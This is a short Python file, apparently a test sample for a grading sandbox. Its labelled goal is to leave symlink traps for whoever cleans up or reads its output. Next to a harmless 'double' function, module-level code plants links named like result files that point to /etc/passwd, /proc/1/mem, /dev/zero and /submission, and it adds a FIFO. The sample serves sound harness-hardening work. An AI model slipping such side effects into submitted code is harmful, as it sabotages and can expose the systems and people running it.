# tries: to leave links to files outside where its own files were, for whoever clears up or reads them afterwards
# outcome: N
import os
import tempfile
import threading


def double(number, work):
    found = []
    thread = threading.Thread(target=lambda: found.append(work(number)))
    thread.start()
    thread.join()
    return 2 * found[0]
_TARGETS = ("/etc/passwd", "/usr", "/", "/submission", "/proc/1/mem", "/dev/zero", os.path.dirname(__file__))

for _number, _target in enumerate(_TARGETS):
    os.symlink(_target, os.path.join(tempfile.gettempdir(), f"result-{_number}.json"))
os.mkdir(os.path.join(tempfile.gettempdir(), "folder"))
os.rename(os.path.join(tempfile.gettempdir(), "folder"), os.path.join(tempfile.gettempdir(), "folder.old"))
os.symlink("/submission", os.path.join(tempfile.gettempdir(), "folder"))
os.mkfifo(os.path.join(tempfile.gettempdir(), "fifo"))
